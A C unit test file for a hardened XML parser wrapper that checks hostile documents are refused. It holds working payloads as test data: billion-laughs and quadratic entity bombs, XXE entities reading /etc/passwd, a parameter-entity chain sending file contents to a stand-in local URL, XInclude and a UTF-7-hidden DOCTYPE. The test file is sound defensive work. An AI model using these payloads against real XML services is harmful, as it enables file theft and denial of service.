/*
 * check_xmlsafe.c - the hardened XML reader against hostile documents:
 * entity expansion (billion laughs, quadratic blow-up), external entities
 * (file and http), external DTDs, parameter entities, XInclude, deep
 * nesting, other encodings, NUL bytes, malformed and oversized input.
 *
 * Every test runs with an external-entity loader that counts its calls and
 * refuses them, so "no file was read" is checked, not assumed; a control
 * test shows the counter does see the loads plain libxml2 would make.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <libxml/parser.h>
#include <libxml/parserInternals.h>
#include <libxml/xmlerror.h>

#include "xml/xmlsafe.h"

#define DOCTYPE_MSG \
	"DOCTYPE declarations are not accepted (entities and DTDs are refused); expected a plain XML document"
#define NOT_UTF8_MSG "t.xml:1: not UTF-8 (a UTF-16 or UTF-32 document); expected UTF-8"

static int loads; /* calls of the external-entity loader */

static xmlParserInputPtr counting_loader(const char *url, const char *id, xmlParserCtxtPtr ctxt)
{
	(void)url;
	(void)id;
	(void)ctxt;
	loads++;
	return NULL;
}

static void quiet(void *data, xmlErrorPtr e)
{
	(void)data;
	(void)e;
}

/* Each test runs in its own process (CK_FORK): harden first, so that
 * xmlsafe's own refusing loader is installed, then put the counter over it. */
static void setup(void)
{
	xmlDocPtr doc;

	ck_assert_int_eq(ord_xml_parse(&doc, "<r/>", 4, "setup"), 0);
	xmlFreeDoc(doc);
	xmlSetExternalEntityLoader(counting_loader);
	loads = 0;
}

/* Parse len bytes as "t.xml"; expect ORD_EBADDATA, exactly msg, no load. */
static void refused_len(const char *xml, size_t len, const char *msg)
{
	xmlDocPtr doc = (xmlDocPtr)1;
	int rc = ord_xml_parse(&doc, xml, len, "t.xml");

	ck_assert_msg(rc == ORD_EBADDATA, "rc %d for %.60s", rc, xml);
	ck_assert_ptr_null(doc);
	ck_assert_str_eq(ord_error_last(), msg);
	ck_assert_int_eq(loads, 0);
}

static void refused(const char *xml, const char *msg)
{
	refused_len(xml, strlen(xml), msg);
}

/* The same, comparing only the start of the message (libxml2 may add more). */
static void refused_prefix(const char *xml, const char *msg)
{
	xmlDocPtr doc;
	int rc = ord_xml_parse(&doc, xml, strlen(xml), "t.xml");

	ck_assert_int_eq(rc, ORD_EBADDATA);
	ck_assert_msg(!strncmp(ord_error_last(), msg, strlen(msg)), "got: %s", ord_error_last());
	ck_assert_int_eq(loads, 0);
}

static void accepted_len(const char *xml, size_t len)
{
	xmlDocPtr doc = NULL;
	int rc = ord_xml_parse(&doc, xml, len, "t.xml");

	ck_assert_msg(rc == 0, "%s", ord_error_last());
	ck_assert_ptr_nonnull(doc);
	xmlFreeDoc(doc);
	ck_assert_int_eq(loads, 0);
}

static void accepted(const char *xml)
{
	accepted_len(xml, strlen(xml));
}

/* n nested <a> elements, one per line starting on line 1. */
static char *nested(int n)
{
	struct ord_buf b = ORD_BUF_INIT;
	int i;

	for (i = 0; i < n; i++)
		ord_buf_adds(&b, "<a>\n");
	for (i = 0; i < n; i++)
		ord_buf_adds(&b, "</a>");
	return ord_buf_detach(&b, NULL);
}

/* ---- ordinary documents --------------------------------------------- */

START_TEST(test_parse_and_helpers)
{
	static const char xml[] = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
				  "<r a=\"1 &amp; 2\">\n <c>x &amp; y</c>\n <!-- note -->\n <d/>\n <c/>\n</r>\n";
	xmlDocPtr doc;
	xmlNodePtr root, c;
	char *s;

	ck_assert_int_eq(ord_xml_parse(&doc, xml, strlen(xml), "t.xml"), 0);
	root = xmlDocGetRootElement(doc);
	s = ord_xml_attr(root, "a");
	ck_assert_str_eq(s, "1 & 2");
	free(s);
	ck_assert_ptr_null(ord_xml_attr(root, "b"));
	c = ord_xml_child(root, "c");
	ck_assert_ptr_nonnull(c);
	ck_assert_int_eq(xmlGetLineNo(c), 3);
	s = ord_xml_text(c);
	ck_assert_str_eq(s, "x & y");
	free(s);
	ck_assert_str_eq((const char *)ord_xml_next(c->next, NULL)->name, "d");
	c = ord_xml_next(c->next, "c");
	ck_assert_int_eq(xmlGetLineNo(c), 6);
	s = ord_xml_text(c);
	ck_assert_str_eq(s, "");
	free(s);
	ck_assert_ptr_null(ord_xml_next(c->next, "c"));
	ck_assert_ptr_null(ord_xml_child(NULL, "c"));
	xmlFreeDoc(doc);

	/* a UTF-8 byte order mark and single-quoted UTF-8 are fine */
	accepted("\xEF\xBB\xBF<?xml version='1.0' encoding='UTF-8'?><r>\xC3\xA9</r>");
	accepted("  \n<r/>");
	ck_assert_int_eq(loads, 0);
}
END_TEST

START_TEST(test_malformed)
{
	refused_prefix("<r>\n<a>\n</b></r>",
		       "t.xml:3:5: Opening and ending tag mismatch: a line 2 and b");
	refused("", "t.xml:1:1: Document is empty");
	refused("<r>&#0;</r>", "t.xml:1:8: xmlParseCharRef: invalid xmlChar value 0");
	refused_prefix("<r>\n\n<a b=1/></r>", "t.xml:3:6: AttValue: \" or ' expected");
	refused("<r>\xC3</r>",
		"t.xml:1:4: Input is not proper UTF-8, indicate encoding !\nBytes: 0xC3 0x3C 0x2F 0x72");
}
END_TEST

/* ---- entities and DTDs ---------------------------------------------- */

START_TEST(test_billion_laughs)
{
	refused("<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE lolz [\n"
		" <!ENTITY lol \"lol\">\n"
		" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
		" <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
		" <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
		" <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
		" <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
		" <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
		" <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
		" <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
		" <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
		"]>\n<lolz>&lol9;</lolz>\n",
		"t.xml:2: " DOCTYPE_MSG);
}
END_TEST

START_TEST(test_quadratic_blowup)
{
	struct ord_buf b = ORD_BUF_INIT;
	int i;

	ord_buf_adds(&b, "<?xml version=\"1.0\"?>\n\n<!DOCTYPE r [<!ENTITY a \"");
	for (i = 0; i < 100000; i++)
		ord_buf_addch(&b, 'a');
	ord_buf_adds(&b, "\">]>\n<r>");
	for (i = 0; i < 100000; i++)
		ord_buf_adds(&b, "&a;");
	ord_buf_adds(&b, "</r>\n");
	refused(b.buf, "t.xml:3: " DOCTYPE_MSG);
	ord_buf_release(&b);
}
END_TEST

START_TEST(test_external_entity_file)
{
	char path[] = "/tmp/ord_xmlsafe_XXXXXX", xml[512];
	int fd = mkstemp(path);

	/* a file that exists, with a marker that must never reach the message */
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, "SECRET-MARKER\n", 14), 14);
	close(fd);
	snprintf(xml, sizeof(xml),
		 "<?xml version=\"1.0\"?>\n<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file://%s\"> ]>\n<r>&xxe;</r>",
		 path);
	refused(xml, "t.xml:2: " DOCTYPE_MSG);
	ck_assert_ptr_null(strstr(ord_error_last(), "SECRET"));
	refused("<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n<r>&xxe;</r>",
		"t.xml:1: " DOCTYPE_MSG);
	/* attribute values too */
	refused("<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n<r a=\"&xxe;\"/>",
		"t.xml:1: " DOCTYPE_MSG);
	unlink(path);
}
END_TEST

START_TEST(test_external_entity_http)
{
	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"http://127.0.0.1:9/x\"> ]>\n<r>&xxe;</r>",
		"t.xml:2: " DOCTYPE_MSG);
	refused("<!DOCTYPE r [ <!ENTITY xxe PUBLIC \"-//x//EN\" \"https://example.invalid/x\"> ]><r>&xxe;</r>",
		"t.xml:1: " DOCTYPE_MSG);
}
END_TEST

START_TEST(test_external_dtd)
{
	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE r SYSTEM \"http://127.0.0.1:9/r.dtd\">\n<r/>",
		"t.xml:2: " DOCTYPE_MSG);
	refused("<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>", "t.xml:1: " DOCTYPE_MSG);
	refused("<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
		"\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><r/>",
		"t.xml:1: " DOCTYPE_MSG);
}
END_TEST

START_TEST(test_parameter_entities)
{
	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n"
		" <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
		" <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
		" %eval;\n %exfil;\n]>\n<r/>",
		"t.xml:2: " DOCTYPE_MSG);
	refused("<!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://127.0.0.1:9/x.dtd\"> %pe;]><r/>",
		"t.xml:1: " DOCTYPE_MSG);
}
END_TEST

START_TEST(test_entities_without_doctype)
{
	/* undeclared: a well-formedness error, nothing looked up */
	refused("<r>\n&xxe;</r>", "t.xml:2:6: Entity 'xxe' not defined");
	refused("<r>\n\n<!ENTITY x \"y\"></r>", "t.xml:3: entity declarations are not accepted");
	/* the five predefined entities and character references are plain text */
	accepted("<r>&lt;&gt;&amp;&apos;&quot;&#233;&#xE9;</r>");
}
END_TEST

/* ---- XInclude ------------------------------------------------------- */

START_TEST(test_xinclude)
{
	refused("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">\n"
		"<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>",
		"t.xml:1: XInclude is not accepted");
	refused("<r>\n<xi:include xmlns:xi=\"http://www.w3.org/2003/XInclude\" href=\"http://127.0.0.1:9/\"/></r>",
		"t.xml:2: XInclude is not accepted");
	/* the namespace spelt with character references gets past the byte
	 * scan; the tree check still finds the element */
	refused("<r xmlns:xi=\"http&#58;//www.w3.org/2001/XInclude\">\n"
		"<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>",
		"t.xml:2: XInclude is not accepted");
}
END_TEST

/* ---- size and depth ------------------------------------------------- */

START_TEST(test_deep_nesting)
{
	struct ord_buf b = ORD_BUF_INIT;
	char *xml;
	int i;

	/* 10,000 levels: libxml2 stops at its own limit, in our words */
	for (i = 0; i < 10000; i++)
		ord_buf_adds(&b, "<a>");
	for (i = 0; i < 10000; i++)
		ord_buf_adds(&b, "</a>");
	refused(b.buf, "t.xml:1:772: elements nested deeper than 64 levels");
	ord_buf_release(&b);

	/* our own limit: 64 levels are fine, the 65th is refused on its line */
	xml = nested(ORD_XML_MAX_DEPTH);
	accepted(xml);
	free(xml);
	xml = nested(ORD_XML_MAX_DEPTH + 1);
	refused(xml, "t.xml:65: elements nested deeper than 64 levels");
	free(xml);
}
END_TEST

/* One tag of many attributes: libxml2 compares each with every other
 * (minutes for 100,000 of them), so they are counted first; quoted '>'
 * and '=' and those in a comment or a CDATA section do not count. */
START_TEST(test_many_attributes)
{
	struct ord_buf b = ORD_BUF_INIT;
	int i;

	ord_buf_adds(&b, "<r><!-- a=1 b=2 > --><e");
	for (i = 0; i < ORD_XML_MAX_ATTRS; i++)
		ord_buf_addf(&b, " a%d='x=>%d'", i, i);
	ord_buf_adds(&b, "/><![CDATA[<e a=1 b=2>]]></r>");
	accepted_len(b.buf, b.len);
	ord_buf_reset(&b);
	ord_buf_adds(&b, "<r>\n<e");
	for (i = 0; i < 100000; i++)
		ord_buf_addf(&b, " a%d=\"%d\"", i, i);
	ord_buf_adds(&b, "/></r>");
	refused_len(b.buf, b.len,
		    "t.xml:2: an element with more than 256 attributes; expected at most 256");
	ord_buf_release(&b);
}
END_TEST

/* One comment, processing instruction, CDATA section or tag longer than
 * ORD_XML_MAX_MARKUP is refused before libxml2 reads it (its push parser
 * reads one of more than 10 MB again for every 512 bytes: minutes for 12
 * MB); one of the most is read. */
START_TEST(test_long_markup)
{
	static const char *const kinds[][2] = {
		{ "<!-- ", " -->" }, { "<?pi ", "?>" }, { "<![CDATA[", "]]>" }, { "<e a='", "'/>" }
	};
	struct ord_xml_stream *st;
	struct ord_buf b = ORD_BUF_INIT;
	char msg[200];
	xmlDocPtr doc;
	size_t k;

	snprintf(msg, sizeof(msg),
		 "t.xml:2: a comment, processing instruction, CDATA section or tag of more than %d bytes; expected at most %d",
		 ORD_XML_MAX_MARKUP, ORD_XML_MAX_MARKUP);
	for (k = 0; k < ORD_ARRAY_SIZE(kinds); k++) {
		ord_buf_reset(&b);
		ord_buf_adds(&b, "<r>\n");
		ord_buf_adds(&b, kinds[k][0]);
		ord_buf_grow(&b, ORD_XML_MAX_MARKUP + 64);
		memset(b.buf + b.len, 'x', ORD_XML_MAX_MARKUP);
		b.len += ORD_XML_MAX_MARKUP;
		ord_buf_adds(&b, kinds[k][1]);
		ord_buf_adds(&b, "</r>");
		refused_len(b.buf, b.len, msg);
		ck_assert_int_eq(ord_xml_stream_open(&st, b.buf, b.len, b.len, "t.xml", NULL, NULL),
				 ORD_EBADDATA);
		ck_assert_str_eq(ord_error_last(), msg);
	}
	/* one a little under the most (its close 4 bytes within it) is read */
	ord_buf_reset(&b);
	ord_buf_adds(&b, "<r>\n<!--");
	ord_buf_grow(&b, ORD_XML_MAX_MARKUP + 64);
	memset(b.buf + b.len, 'x', ORD_XML_MAX_MARKUP - 4 - 3);
	b.len += ORD_XML_MAX_MARKUP - 4 - 3;
	ord_buf_adds(&b, "--></r>");
	ck_assert_int_eq(ord_xml_parse(&doc, b.buf, b.len, "t.xml"), 0);
	xmlFreeDoc(doc);
	ord_buf_release(&b);
}
END_TEST

START_TEST(test_oversize)
{
	size_t len = ORD_XML_MAX_BYTES + 1;
	char *big = ord_xmalloc(len);

	memset(big, ' ', len);
	memcpy(big, "<r>", 3);
	memcpy(big + len - 4, "</r>", 4);
	refused_len(big, len,
		    "t.xml: document of 16777217 bytes is larger than the limit of 16777216 bytes");
	free(big);
}
END_TEST

/* A document under the limit but over libxml2's own 10,000,000 bytes of
 * look-up, of many small elements as a bundle of 10,000 units is (15 MB
 * of rows): libxml2 stopped it at its last line, "Huge input lookup",
 * and no such bundle could be verified. */
START_TEST(test_large_of_small_elements)
{
	static const char *const at[] = { "open", "seal", "exchange" };
	static const int seq[] = { 3, 8, 10515 };
	struct ord_buf b = ORD_BUF_INIT;
	xmlDocPtr doc = NULL;
	xmlNodePtr n;
	size_t count = 0, start;
	int i, k;

	ord_buf_adds(&b, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<bundle>\n");
	for (i = 0, start = b.len; b.len - start < 14u * 1000 * 1000; i++)
		ord_buf_addf(&b,
			     "  <state log=\"%d\" unit=\"A%d\" turn=\"1\" phase=\"3\">"
			     "<value>figures=24 lost=0 morale=good</value></state>\n",
			     i, i);
	/* a bundle's heads and its signature: where, in the last 250 bytes
	 * of such a document, libxml2 looked ahead and stopped (the shape
	 * of a real bundle's end; which bytes do it depends on where its
	 * reads fall) */
	for (k = 0; k < 3; k++, i++)
		ord_buf_addf(&b,
			     "  <head turn=\"1\" at=\"%s\" seq=\"%d\" hash=\"%064d\" "
			     "seed-commitment=\"%064d\" signature=\"%0128d\"/>\n",
			     at[k], seq[k], 0, 0, 0);
	ord_buf_addf(&b, "<signature>%0128d</signature>\n</bundle>\n", 0);
	i++;
	ck_assert_int_lt(b.len, ORD_XML_MAX_BYTES);
	ck_assert_msg(ord_xml_parse(&doc, b.buf, b.len, "t.xml") == 0, "%s", ord_error_last());
	for (n = xmlDocGetRootElement(doc)->children; n; n = n->next)
		count += n->type == XML_ELEMENT_NODE;
	ck_assert_uint_eq(count, (size_t)i);
	xmlFreeDoc(doc);
	ord_buf_release(&b);
}
END_TEST

/* ---- encodings and bytes -------------------------------------------- */

START_TEST(test_utf16_and_utf32)
{
	static const char le_bom[] = "\xFF\xFE<\0r\0/\0>\0";
	static const char be_bom[] = "\xFE\xFF\0<\0r\0/\0>";
	static const char le[] = "<\0?\0x\0m\0l\0 \0v\0e\0r\0s\0i\0o\0n\0=\0\"\0001\0.\0000\0\"\0?\0>\0<\0r\0/\0>\0";
	static const char be[] = "\0<\0r\0/\0>";
	static const char utf32[] = "\0\0\0<\0\0\0r\0\0\0/\0\0\0>";

	refused_len(le_bom, sizeof(le_bom) - 1, NOT_UTF8_MSG);
	refused_len(be_bom, sizeof(be_bom) - 1, NOT_UTF8_MSG);
	refused_len(le, sizeof(le) - 1, NOT_UTF8_MSG);
	refused_len(be, sizeof(be) - 1, NOT_UTF8_MSG);
	refused_len(utf32, sizeof(utf32) - 1, NOT_UTF8_MSG);
}
END_TEST

START_TEST(test_encoding_declarations)
{
	refused("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<r>\xE9</r>",
		"t.xml:1: encoding 'ISO-8859-1' is not accepted; expected UTF-8");
	refused("<?xml version=\"1.0\" encoding='windows-1252'?><r/>",
		"t.xml:1: encoding 'windows-1252' is not accepted; expected UTF-8");
	/* declared UTF-16 over 8-bit bytes */
	refused("<?xml version=\"1.0\" encoding=\"UTF-16\"?><r/>",
		"t.xml:1: encoding 'UTF-16' is not accepted; expected UTF-8");
	/* UTF-7 would hide a DOCTYPE from the byte scan: refused before parsing */
	refused("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n"
		"+ADw-+ACE-DOCTYPE r +AFs-+ADw-+ACE-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n"
		"<r>&xxe;</r>",
		"t.xml:1: encoding 'UTF-7' is not accepted; expected UTF-8");
	/* EBCDIC, recognised by libxml2 from the first bytes: <?xml version="1.0" encoding="IBM037"?><r/> */
	refused("\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x40"
		"\x85\x95\x83\x96\x84\x89\x95\x87\x7e\x7f\xc9\xc2\xd4\xf0\xf3\xf7\x7f\x6f\x6e"
		"\x4c\x99\x61\x6e",
		"t.xml:1: does not start with '<'; expected an XML document in UTF-8");
	refused("junk<r/>", "t.xml:1: does not start with '<'; expected an XML document in UTF-8");
}
END_TEST

START_TEST(test_nul_byte)
{
	static const char xml[] = "<r>\n<a>x</a>\n<a>\0</a>\n</r>";

	refused_len(xml, sizeof(xml) - 1, "t.xml:3: contains a NUL byte; expected UTF-8 text");
}
END_TEST

/* ---- validation ----------------------------------------------------- */

START_TEST(test_load_and_validate)
{
	static const char ok[] = "<scenario ruleset=\"battalion\"><title>T</title>"
				 "<side id=\"a\" name=\"A\"/><side id=\"b\" name=\"B\"/>"
				 "<unit id=\"U\" name=\"U\" side=\"a\" kind=\"line_infantry\"/></scenario>";
	static const char wrong_root[] = "<?xml version=\"1.0\"?>\n<game ruleset=\"battalion\"/>";
	xmlDocPtr doc;

	ck_assert_int_eq(ord_xml_load(&doc, ok, strlen(ok), "t.xml", "schema/scenario.rng"), 0);
	ck_assert_ptr_nonnull(doc);
	xmlFreeDoc(doc);
	ck_assert_int_eq(ord_xml_load(&doc, wrong_root, strlen(wrong_root), "t.xml",
				      "schema/scenario.rng"),
			 ORD_EBADDATA);
	ck_assert_ptr_null(doc);
	ck_assert_str_eq(ord_error_last(), "t.xml:2: Expecting element scenario, got game");
	/* hostile input is refused by the parse, before any schema */
	ck_assert_int_eq(ord_xml_load(&doc, "<!DOCTYPE scenario SYSTEM \"file:///etc/passwd\"><scenario/>",
				      58, "t.xml", "schema/scenario.rng"),
			 ORD_EBADDATA);
	ck_assert_str_eq(ord_error_last(), "t.xml:1: " DOCTYPE_MSG);

	ck_assert_int_eq(ord_xml_parse(&doc, ok, strlen(ok), "t.xml"), 0);
	ck_assert_int_eq(ord_xml_validate(doc, "schema/none.rng", "t.xml"), ORD_ERROR);
	ck_assert_str_eq(ord_error_last(), "schema 'schema/none.rng' is not built in");
	xmlFreeDoc(doc);

	ck_assert_int_eq(ord_xml_load_file(&doc, "/nonexistent/scenario.xml", "schema/scenario.rng"),
			 ORD_ENOFILE);
	ck_assert_int_eq(loads, 0);
}
END_TEST

START_TEST(test_hostile_fixtures)
{
	static const char *const files[] = {
		"hostile-billion-laughs.xml",
		"hostile-xxe-file.xml",
		"hostile-xxe-http.xml",
		"hostile-external-dtd.xml",
		"hostile-parameter-entity.xml",
		"hostile-xinclude.xml",
		"hostile-latin1.xml",
		"hostile-utf7.xml",
		"hostile-utf16.xml",
		"hostile-nul.xml",
	};
	char path[4096];
	xmlDocPtr doc;
	size_t i;

	for (i = 0; i < ORD_ARRAY_SIZE(files); i++) {
		snprintf(path, sizeof(path), "%s/tests/fixtures/scenario/%s", ORD_SOURCE_DIR, files[i]);
		ck_assert_msg(ord_xml_load_file(&doc, path, "schema/scenario.rng") == ORD_EBADDATA,
			      "%s accepted", files[i]);
		ck_assert_msg(!strncmp(ord_error_last(), path, strlen(path)), "%s", ord_error_last());
	}
	ck_assert_int_eq(loads, 0);
}
END_TEST

/* The scan as it was written over a whole document, before it was fed in
 * pieces (commit ea3daed): the reference the scan is held to. */
static const char *ref_tag_end(const char *q, const char *end)
{
	char quote = 0;

	for (q++; q < end; q++) {
		if (quote)
			quote = *q == quote ? 0 : quote;
		else if (*q == '"' || *q == '\'')
			quote = *q;
		else if (*q == '>')
			return q;
	}
	return NULL;
}

static const char *ref_too_many_attrs(const char *p, const char *end)
{
	const char *tag;
	unsigned n;
	char quote;
	size_t skip;

	while ((p = memchr(p, '<', (size_t)(end - p))) != NULL) {
		if ((skip = ord_xml_special_len(p, end)) != 0) {
			p += skip;
			continue;
		}
		for (tag = p++, n = 0, quote = 0; p < end; p++) {
			if (quote)
				quote = *p == quote ? 0 : quote;
			else if (*p == '"' || *p == '\'')
				quote = *p;
			else if (*p == '>')
				break;
			else if (*p == '=' && ++n > ORD_XML_MAX_ATTRS)
				return tag;
		}
	}
	return NULL;
}

/* check_nesting's first refusal: its kind, and its '>' in *at */
static int ref_nesting(const char *bytes, size_t len, const char *const *containers, size_t *at)
{
	struct {
		const char *tag;
		size_t len;
	} open[ORD_XML_MAX_DEPTH];
	const char *p = bytes, *end = bytes + len, *gt, *tag, *root = NULL;
	size_t skip, k, n;
	int depth = 0, cont[ORD_XML_MAX_DEPTH];

	while ((p = memchr(p, '<', (size_t)(end - p))) != NULL) {
		if ((skip = ord_xml_special_len(p, end)) != 0) {
			p += skip;
			continue;
		}
		if (!(gt = ref_tag_end(p, end)))
			break;
		*at = (size_t)(gt - bytes);
		if (p + 1 < gt && p[1] == '/') {
			depth -= depth > 0;
		} else if (p + 1 < gt && p[1] != '!') {
			if (!root)
				root = p;
			for (tag = p + 1; tag < gt && !strchr(" \t\r\n/", *tag); tag++)
				;
			if (tag == p + 1)
				break;
			n = (size_t)(tag - p - 1);
			if (depth >= ORD_XML_MAX_DEPTH)
				return ORD_XML_NEST_DEEP;
			if (!depth && p == root &&
			    (strlen(containers[0]) != n || memcmp(containers[0], p + 1, n)))
				return ORD_XML_NEST_ROOT;
			if (depth && !cont[depth - 1])
				return ORD_XML_NEST_INSIDE;
			if (gt[-1] != '/') {
				open[depth].tag = p + 1;
				open[depth].len = n;
				for (k = 0, cont[depth] = 0; containers[k]; k++)
					cont[depth] |= strlen(containers[k]) == n &&
						       !memcmp(containers[k], p + 1, n);
				depth++;
			}
		}
		p = gt + 1;
	}
	(void)open;
	return 0;
}

/* The scan of the whole document against the reference's findings. */
static void scan_as_before(const struct ord_xml_scan *sc, const char *doc, size_t len,
			   const char *const *cont)
{
	static const char *const words[] = { "<!DOCTYPE", "<!ENTITY", "http://www.w3.org/2001/XInclude",
					     "http://www.w3.org/2003/XInclude" };
	static const int kinds[] = { ORD_XML_SCAN_DOCTYPE, ORD_XML_SCAN_ENTITY,
				     ORD_XML_SCAN_XINCLUDE, ORD_XML_SCAN_XINCLUDE_OLD };
	const char *q;
	size_t k, at = 0;
	int kind;

	q = memchr(doc, '\0', len);
	ck_assert_uint_eq(sc->at[ORD_XML_SCAN_NUL], (q ? (size_t)(q - doc) : SIZE_MAX));
	for (k = 0; k < 4; k++) {
		q = ord_xml_find_bytes(doc, len, words[k]);
		ck_assert_uint_eq(sc->at[kinds[k]], (q ? (size_t)(q - doc) : SIZE_MAX));
	}
	q = ref_too_many_attrs(doc, doc + len);
	ck_assert_uint_eq(sc->at[ORD_XML_SCAN_ATTRS], (q ? (size_t)(q - doc) : SIZE_MAX));
	/* the nesting was checked of documents with no NUL */
	if (memchr(doc, '\0', len))
		return;
	kind = ref_nesting(doc, len, cont, &at);
	ck_assert_msg(sc->nest_kind == kind, "nesting %d, before %d: %.*s", sc->nest_kind, kind,
		      (int)len, doc);
	ck_assert_uint_eq(sc->at[ORD_XML_SCAN_NESTING], (kind ? at : SIZE_MAX));
}

/* The pre-scan finds the same, at the same offsets, whatever the pieces it
 * is fed in (a bundle too large to hold is scanned as it is read): every
 * kind of finding, a word or markup cut between two pieces, against the
 * document fed whole, and the whole against the scan as it was written
 * before; hand-made documents, then random ones of markup's bytes. */
static void scan_alike(const char *doc, size_t len, unsigned seed)
{
	static const char *const cont[] = { "r", "u", NULL };
	struct ord_xml_scan whole, part;
	size_t at, n, k, max;
	int rw, rp;

	ord_xml_scan_init(&whole, cont, 1);
	ord_xml_scan_feed(&whole, doc, len);
	rw = ord_xml_scan_end(&whole);
	scan_as_before(&whole, doc, len, cont);
	for (k = 0; k < 4; k++) {
		max = k == 0 ? 1 : k == 1 ? 3 : k == 2 ? 9 : 70;
		ord_xml_scan_init(&part, cont, 1);
		for (at = 0; at < len; at += n) {
			seed = seed * 1103515245u + 12345u;
			n = 1 + (seed >> 16) % max;
			if (n > len - at)
				n = len - at;
			ord_xml_scan_feed(&part, doc + at, n);
		}
		rp = ord_xml_scan_end(&part);
		ck_assert_int_eq(rw, rp);
		ck_assert_msg(!memcmp(whole.at, part.at, sizeof(whole.at)),
			      "pieces of at most %zu differ: %.*s", max, (int)len, doc);
		ck_assert_int_eq(whole.nest_kind, part.nest_kind);
		ck_assert_str_eq(whole.nest_tag, part.nest_tag);
		ck_assert_str_eq(whole.nest_parent, part.nest_parent);
		ck_assert_uint_eq(whole.nonspace, part.nonspace);
	}
}

START_TEST(test_scan_in_pieces)
{
	static const char *const docs[] = {
		"<r><!-- <a> --><![CDATA[<b>]]><?pi <c>?><x a='>' b=\"<\"/></r>",
		"<r><u>http://www.w3.org/2001/XInclude</u></r>",
		"<r><u>http://www.w3.org/2003/XInclude</u><!DOCTYPE x><!ENTITY y></r>",
		"<r><t><u/></t></r>", /* inside text only */
		"<q/>",               /* not the root */
		"  \n <r>< a></r>",   /* no name: the nesting's scan stops */
		"<r><!-->--></r><!-",
		"<r><?>?></r><",
		"<r></r><!-x",
		"<r>\0</r>",
		"<r a='1' b=\"2\"><u x=\"a>b\" y='</u>'>t</u></r>",
		"<r><uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu><a/></uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu></r>",
		"<r><![CDATA[ ]] > ]]]></r><!--->",
		"<r><!DOCTYP<!DOCTYPE",
		"",
	};
	static const char alphabet[] = "<<<>>>!!--??[[]]CDATA==\"'/ \nrut";
	static const char *const tokens[] = {
		"<!--", "-->", "<![CDATA[", "]]>",      "<?",  "?>",
		"<",    ">",   "/",         "'",        "\"",  "=",
		" ",    "r",   "u",         "t",        "<r>", "<u>",
		"</u>", "<t>", "<!DOCTYPE", "<!ENTITY", "<!",  "http://www.w3.org/2001/XInclude",
		"-",    "]"
	};
	struct ord_buf b = ORD_BUF_INIT;
	unsigned seed = 7;
	size_t i, k;

	for (i = 0; i < ORD_ARRAY_SIZE(docs); i++)
		scan_alike(docs[i], i == 9 ? 8 : strlen(docs[i]), (unsigned)i);
	/* 70 levels deep, a tag of 300 attributes */
	for (k = 0; k < 70; k++)
		ord_buf_adds(&b, k ? "<u>" : "<r>");
	scan_alike(b.buf, b.len, 1);
	ord_buf_reset(&b);
	ord_buf_adds(&b, "<r><u");
	for (k = 0; k < 300; k++)
		ord_buf_addf(&b, " a%zu='='", k);
	ord_buf_adds(&b, "/></r>");
	scan_alike(b.buf, b.len, 2);
	for (i = 0; i < 3000; i++) {
		ord_buf_reset(&b);
		for (k = 0; k < 20 + i % 200; k++) {
			seed = seed * 1103515245u + 12345u;
			ord_buf_addch(&b, alphabet[(seed >> 16) % (sizeof(alphabet) - 1)]);
		}
		scan_alike(b.buf, b.len, seed);
	}
	/* and of markup's words */
	for (i = 0; i < 3000; i++) {
		ord_buf_reset(&b);
		for (k = 0; k < 5 + i % 60; k++) {
			seed = seed * 1103515245u + 12345u;
			ord_buf_adds(&b, tokens[(seed >> 16) % ORD_ARRAY_SIZE(tokens)]);
		}
